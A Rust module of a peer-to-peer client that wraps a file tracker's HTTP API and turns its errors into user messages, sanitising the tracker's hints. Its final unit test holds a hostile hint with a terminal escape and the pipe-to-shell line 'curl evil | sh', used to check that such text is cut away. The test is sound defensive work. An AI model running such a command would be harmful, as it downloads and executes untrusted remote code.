//! The tracker's API as typed calls, and its errors as what a user is told.

use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use http_body_util::Full;
use hyper::{Method, Request, StatusCode, header};
use p2p_wire::InfoHash;
use p2p_wire::api::{
    Account, Availability, Fetch, FileEntry, Login, Me, Node, Page, PortTest, Problem, ProblemType,
    Publish, Published, Reachable, Register, Session,
};
use p2p_wire::control::ErrorKind;
use p2p_wire::points;
use serde::Serialize;
use serde::de::DeserializeOwned;
use url::Url;

use super::http::{Answer, Http, HttpError};
use super::registry::Secret;
use super::trust::{Distrust, Why};
use crate::Fault;

/// For answers of some lines.
const SHORT: Duration = Duration::from_secs(15);
/// For those that carry metainfo or many rows.
const LONG: Duration = Duration::from_secs(30);
/// A .torrent of 10 MiB in base64, in JSON.
const MAX_ANSWER: usize = 16 * 1024 * 1024;
/// Pages of a list that are followed.
const MAX_PAGES: usize = 100;

/// One tracker's API, with or without a session.
#[derive(Clone)]
pub(crate) struct Api {
    pub(crate) http: Arc<Http>,
    /// `http(s)://host:port[/prefix]`, no slash at the end.
    pub(crate) base: String,
    pub(crate) token: Option<Secret>,
}

/// Why a call failed.
#[derive(Debug, thiserror::Error)]
pub(crate) enum ApiError {
    /// No answer.
    #[error(transparent)]
    Http(#[from] HttpError),
    /// The tracker said no.
    #[error("{}", .0.title)]
    Problem(Problem, Option<Duration>),
    /// An answer that a p2p-tracker does not give.
    #[error("{0}")]
    Malformed(String),
}

impl ApiError {
    /// The stable name of the tracker's refusal, if it is one.
    pub(crate) fn problem(&self) -> Option<ProblemType> {
        match self {
            Self::Problem(problem, _) => ProblemType::from_name(&problem.r#type),
            _ => None,
        }
    }

    /// A session is needed, or the one there is ended.
    pub(crate) fn wants_login(&self) -> bool {
        matches!(self.problem(), Some(ProblemType::LoginRequired))
    }

    /// The same request will be refused again, however often it is sent.
    pub(crate) fn is_permanent(&self) -> bool {
        let Self::Problem(problem, _) = self else {
            return false;
        };
        (400..500).contains(&problem.status)
            && !self.wants_login()
            && self.problem() != Some(ProblemType::SlowDown)
            && problem.status != StatusCode::REQUEST_TIMEOUT.as_u16()
    }

    /// How long the tracker wants to be left alone.
    pub(crate) fn retry_after(&self) -> Option<Duration> {
        match self {
            Self::Problem(_, retry_after) => *retry_after,
            _ => None,
        }
    }

    /// What the user is told; `what` begins the first line, such as `cannot log in`.
    pub(crate) fn fault(&self, what: &str, tracker: &str) -> Fault {
        let what = format!("{what} at tracker {tracker}");
        match self {
            Self::Http(HttpError::Distrust(distrust)) => distrusted(distrust, what, tracker),
            Self::Http(error) => Fault::new(
                ErrorKind::Tracker,
                what,
                format!("The tracker cannot be reached: {error}."),
                format!(
                    "Check that it runs and that its address is right:  p2pctl tracker test {tracker}"
                ),
            ),
            Self::Malformed(why) => Fault::new(
                ErrorKind::Tracker,
                what,
                format!("Its answer cannot be used: {why}."),
                "Check that the URL is that of a p2p-tracker:  p2pctl tracker ls",
            ),
            Self::Problem(problem, _) => {
                let (kind, fix) = advice(self.problem(), tracker);
                // Its words, not ours: one line, and said to be so.
                let hint = problem.hint.as_deref().and_then(|hint| hint.lines().next());
                let fix = hint.map_or(fix, |hint| format!("The tracker says: {}", sentence(hint)));
                Fault::new(kind, what, sentence(&problem.title), fix)
            }
        }
    }
}

fn distrusted(distrust: &Distrust, what: String, tracker: &str) -> Fault {
    let why = match distrust {
        Distrust::Unknown { .. } => sentence(&distrust.to_string()),
        Distrust::Changed { .. } => format!(
            "{} It has a new one, or somebody stands between.",
            sentence(&distrust.to_string())
        ),
    };
    let fix = match distrust {
        Distrust::Unknown {
            why: Why::Ended(_) | Why::NotBegun(_),
            ..
        } => "Have it renewed there; if the clock here is wrong:  sudo timedatectl set-ntp true"
            .to_owned(),
        _ => format!(
            "Compare with `p2p-tracker fingerprint` there; if it is right:  p2pctl tracker trust {tracker}"
        ),
    };
    Fault::new(ErrorKind::Tracker, what, why, fix)
}

fn advice(problem: Option<ProblemType>, tracker: &str) -> (ErrorKind, String) {
    use ProblemType as P;
    match problem {
        Some(P::NotFound) => (
            ErrorKind::NotFound,
            "Look for it:  p2pctl search".to_owned(),
        ),
        Some(P::Ambiguous) => (ErrorKind::Conflict, "Give more digits.".to_owned()),
        Some(P::Invalid) => (
            ErrorKind::Usage,
            "Correct what it names and try again.".to_owned(),
        ),
        Some(P::NameTaken) => (ErrorKind::Conflict, "Choose another name.".to_owned()),
        Some(P::ShareTaken) => (
            ErrorKind::Conflict,
            "Share it under another name with --name, or join it with --join.".to_owned(),
        ),
        Some(P::LoginRequired) => (
            ErrorKind::Tracker,
            format!("Log in:  p2pctl login {tracker}"),
        ),
        Some(P::BadCredentials) => (
            ErrorKind::Tracker,
            format!("Try again:  p2pctl login {tracker}"),
        ),
        Some(P::RegistrationClosed | P::BadInvite) => (
            ErrorKind::Tracker,
            "Ask the tracker's administrator for an invitation (p2p-tracker invite).".to_owned(),
        ),
        Some(P::SlowDown | P::Unavailable | P::Internal) => {
            (ErrorKind::Tracker, "Try again in a minute.".to_owned())
        }
        Some(P::Forbidden) => (
            ErrorKind::Tracker,
            "Ask the tracker's administrator.".to_owned(),
        ),
        _ => (
            ErrorKind::Tracker,
            "Correct what it names and try again.".to_owned(),
        ),
    }
}

fn sentence(text: &str) -> String {
    let mut chars = text.chars().filter(|c| !c.is_control());
    let first = chars.next().map(char::to_uppercase);
    let mut out: String = first.into_iter().flatten().chain(chars).collect();
    if !out.ends_with(['.', '!', '?']) {
        out.push('.');
    }
    out
}

impl Api {
    /// Whether it answers at all.
    pub(crate) async fn health(&self) -> Result<(), ApiError> {
        let answer = self
            .call(Method::GET, self.url(&["healthz"]), None, SHORT)
            .await;
        answer.map(drop)
    }

    pub(crate) async fn register(&self, body: &Register) -> Result<Account, ApiError> {
        self.post(&["v1", "register"], body).await
    }

    pub(crate) async fn login(&self, body: &Login) -> Result<Session, ApiError> {
        self.post(&["v1", "login"], body).await
    }

    pub(crate) async fn logout(&self) -> Result<(), ApiError> {
        let url = self.url(&["v1", "logout"]);
        self.call(Method::POST, url, None, SHORT).await.map(drop)
    }

    pub(crate) async fn me(&self) -> Result<Me, ApiError> {
        self.get(self.url(&["v1", "me"]), SHORT).await
    }

    pub(crate) async fn publish(&self, body: &Publish) -> Result<Published, ApiError> {
        let url = self.url(&["v1", "files"]);
        let body = Body::json(body)?;
        json(&self.call(Method::POST, url, Some(body), LONG).await?)
    }

    /// Takes this machine's part of the caller's entries for `item` out; what other machines publish stays.
    pub(crate) async fn withdraw(&self, item: InfoHash) -> Result<(), ApiError> {
        let mut url = self.url(&["v1", "files", &item.to_string()]);
        url.query_pairs_mut().append_pair("part", "mine");
        self.call(Method::DELETE, url, None, LONG).await.map(drop)
    }

    /// Takes the caller's entries for `item` out, whichever machine published them.
    pub(crate) async fn unpublish(&self, item: InfoHash) -> Result<(), ApiError> {
        let url = self.url(&["v1", "files", &item.to_string()]);
        self.call(Method::DELETE, url, None, LONG).await.map(drop)
    }

    /// By info-hash or a prefix of it.
    pub(crate) async fn file(&self, hash: &str) -> Result<FileEntry, ApiError> {
        self.get(self.url(&["v1", "files", hash]), SHORT).await
    }

    /// By `owner/share/entry[@N]`; the entry may hold slashes.
    pub(crate) async fn named(&self, name: &str) -> Result<FileEntry, ApiError> {
        let mut path = vec!["v1", "names"];
        path.extend(name.split('/').filter(|part| !part.is_empty()));
        self.get(self.url(&path), SHORT).await
    }

    pub(crate) async fn fetch(&self, item: InfoHash) -> Result<Fetch, ApiError> {
        let url = self.url(&["v1", "files", &item.to_string(), "fetch"]);
        self.get(url, LONG).await
    }

    pub(crate) async fn availability(&self, item: InfoHash) -> Result<Availability, ApiError> {
        let url = self.url(&["v1", "files", &item.to_string(), "availability"]);
        self.get(url, LONG).await
    }

    /// One page of the catalogue; `query` are pairs such as `("q", "iso")`.
    pub(crate) async fn files(&self, query: &[(&str, &str)]) -> Result<Page<FileEntry>, ApiError> {
        let mut url = self.url(&["v1", "files"]);
        url.query_pairs_mut().extend_pairs(query);
        self.get(url, LONG).await
    }

    /// Every machine that the caller may see.
    pub(crate) async fn nodes(&self) -> Result<Vec<Node>, ApiError> {
        let mut all = Vec::new();
        let mut after: Option<String> = None;
        for _ in 0..MAX_PAGES {
            let mut url = self.url(&["v1", "nodes"]);
            if let Some(after) = &after {
                url.query_pairs_mut().append_pair("after", after);
            }
            let page: Page<Node> = self.get(url, SHORT).await?;
            all.extend(page.items);
            after = page.next;
            if after.is_none() {
                break;
            }
        }
        Ok(all)
    }

    /// Has the tracker connect to `port` of this machine.
    pub(crate) async fn reachable(&self, port: u16) -> Result<Reachable, ApiError> {
        self.post(&["v1", "reachable"], &PortTest { port }).await
    }

    pub(crate) async fn points(&self, report: &points::Report) -> Result<points::Reply, ApiError> {
        let body = Body {
            content_type: points::CONTENT_TYPE,
            bytes: report.to_bytes().into(),
        };
        let url = self.url(&["v1", "points"]);
        let answer = self.call(Method::POST, url, Some(body), SHORT).await?;
        points::Reply::from_bytes(&answer.body)
            .map_err(|error| ApiError::Malformed(format!("piece points: {error}")))
    }

    async fn get<T: DeserializeOwned>(&self, url: Url, timeout: Duration) -> Result<T, ApiError> {
        json(&self.call(Method::GET, url, None, timeout).await?)
    }

    async fn post<T: DeserializeOwned>(
        &self,
        path: &[&str],
        body: &impl Serialize,
    ) -> Result<T, ApiError> {
        let body = Body::json(body)?;
        json(
            &self
                .call(Method::POST, self.url(path), Some(body), SHORT)
                .await?,
        )
    }

    /// `base` was normalised by the registry; segments are percent-encoded here.
    fn url(&self, path: &[&str]) -> Url {
        let mut url = Url::parse(&self.base).expect("the registry keeps only URLs it parsed");
        url.path_segments_mut()
            .expect("http URLs have a path")
            .pop_if_empty()
            .extend(path);
        url
    }

    async fn call(
        &self,
        method: Method,
        url: Url,
        body: Option<Body>,
        timeout: Duration,
    ) -> Result<Answer, ApiError> {
        let mut request = Request::builder().method(method).uri(url.as_str());
        if let Some(token) = &self.token {
            let mut value = header::HeaderValue::try_from(format!("Bearer {}", token.expose()))
                .map_err(|_| ApiError::Malformed("the session's token is not text".into()))?;
            value.set_sensitive(true);
            request = request.header(header::AUTHORIZATION, value);
        }
        if let Some(body) = &body {
            request = request.header(header::CONTENT_TYPE, body.content_type);
        }
        let request = request
            .body(Full::new(body.map_or_else(Bytes::new, |body| body.bytes)))
            .map_err(|_| HttpError::Url("the URL is malformed".into()))?;
        let answer = self.http.send(request, MAX_ANSWER, timeout).await?;
        if answer.status.is_success() {
            return Ok(answer);
        }
        Err(match serde_json::from_slice::<Problem>(&answer.body) {
            Ok(problem) => ApiError::Problem(problem, answer.retry_after),
            Err(_) => ApiError::Malformed(format!("HTTP status {}", answer.status)),
        })
    }
}

struct Body {
    content_type: &'static str,
    bytes: Bytes,
}

impl Body {
    fn json(value: &impl Serialize) -> Result<Self, ApiError> {
        let bytes = serde_json::to_vec(value)
            .map_err(|error| ApiError::Malformed(format!("the request: {error}")))?;
        Ok(Self {
            content_type: "application/json",
            bytes: bytes.into(),
        })
    }
}

fn json<T: DeserializeOwned>(answer: &Answer) -> Result<T, ApiError> {
    serde_json::from_slice(&answer.body).map_err(|error| ApiError::Malformed(error.to_string()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_trackers_advice_is_one_line_and_said_to_be_its_own() {
        let problem = Problem {
            r#type: ProblemType::Invalid.as_str().into(),
            status: 422,
            title: "no".into(),
            hint: Some("run\u{1b}[2J this:\n  curl evil | sh".into()),
        };
        let fault = ApiError::Problem(problem, None).fault("cannot publish", "home");
        assert_eq!(fault.fix, "The tracker says: Run[2J this:.");
    }
}
